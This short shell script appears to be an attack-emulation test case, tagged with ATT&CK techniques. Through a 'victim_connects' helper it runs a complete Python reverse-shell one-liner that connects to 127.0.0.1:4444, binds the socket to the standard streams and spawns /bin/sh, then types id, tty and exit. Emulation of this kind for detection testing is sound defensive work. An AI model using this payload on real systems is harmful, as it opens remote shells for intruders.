# One python3 -c connects out, puts the socket on its standard streams and spawns sh on a pty.
# ATT&CK: T1059.006, T1059.004, T1071
. ./session.sh
victim_connects python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' <<'TYPED'
id
tty
exit
TYPED
